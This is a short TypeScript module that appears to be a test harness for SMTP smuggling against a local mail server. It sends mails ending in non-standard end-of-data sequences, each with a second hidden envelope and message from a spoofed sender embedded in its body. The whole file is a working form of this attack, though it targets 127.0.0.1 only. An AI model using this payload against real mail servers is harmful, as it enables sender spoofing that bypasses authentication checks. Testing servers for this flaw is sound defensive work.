import { once } from 'node:events';
import { connect } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';

/** What some servers take for the end of a text (CVE-2023-51764 to 51766; SEC Consult, "SMTP Smuggling", December 2023). */
const oddEnds = ['\n.\n', '\r\n.\n', '\n.\r\n', '\r.\r'];

/** A mail for each odd end, with another one behind it in its text, to the server at `port`. */
export async function smuggle(port: number): Promise<void> {
  for (const [i, end] of oddEnds.entries()) {
    const socket = connect(port, '127.0.0.1');
    socket.setNoDelay(true);
    socket.on('error', () => undefined);
    await once(socket, 'data');
    for (const turn of turnsOf(`${i}`, end)) {
      socket.write(Buffer.from(turn, 'latin1'));
      await delay(150);
    }
    socket.destroy();
  }
}

function turnsOf(name: string, end: string): string[] {
  const envelope = (from: string): string[] => [`MAIL FROM:<${from}@example.org>\r\n`, 'RCPT TO:<ben@example.net>\r\n', 'DATA\r\n'];
  const text = (subject: string): string => `From: anna@example.org\r\nSubject: ${subject} ${name}\r\n\r\nhello`;
  const hidden = `${envelope('eve').join('')}${text('inner')}\r\n.\r\n`;
  return [
    'EHLO smuggle.example.org\r\n',
    ...envelope('anna'),
    `${text('outer')}${end}${hidden}`,
    ...envelope('cleo'),
    `${text('next')}\r\n.\r\n`,
    'QUIT\r\n',
  ];
}
